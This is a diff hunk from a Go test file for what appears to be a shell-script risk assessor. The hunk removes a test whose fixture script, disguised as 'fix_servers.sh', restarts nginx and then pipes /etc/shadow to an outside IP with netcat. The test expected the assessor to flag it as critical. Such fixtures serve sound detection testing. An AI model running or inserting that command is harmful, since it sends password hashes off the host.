@@ -114,19 +114,6 @@ func TestReferencesAreWordsOfTheText(t *testing.T) {
 	}
 }
 
-func TestPinnedFilesAreReadInPlace(t *testing.T) {
-	req := Request{Text: []byte("echo a\n./fix_servers.sh\n"), Lang: "bash", Files: map[string][]byte{"./fix_servers.sh": []byte("#!/bin/bash\nsystemctl restart nginx\nnc 198.51.100.9 443 < /etc/shadow\n")}}
-	a := Assess(context.Background(), req)
-	if !a.Complete || a.Verdict != sallyport.Critical {
-		t.Errorf("verdict %q, complete %v, want critical and complete: %v", a.Verdict, a.Complete, a.Unknown)
-	}
-	for _, e := range a.Effects {
-		if e.Target == "/etc/shadow" && (e.Lines != sallyport.Span{2, 2} || len(e.Via) == 0 || !strings.Contains(e.Via[0], "fix_servers.sh")) {
-			t.Errorf("effect has lines %v and layers %v, want line 2 and the file", e.Lines, e.Via)
-		}
-	}
-}
-
 func TestEffectsOutsideTheTicketComeFirst(t *testing.T) {
 	a := Assess(context.Background(), Request{Text: []byte("systemctl restart nginx\nsystemctl restart postgresql\n"), Lang: "bash", Scope: Scope{Services: []string{"nginx"}}})
 	if len(a.Effects) == 0 || a.Effects[0].Target != "postgresql" || !a.Effects[0].Outside {
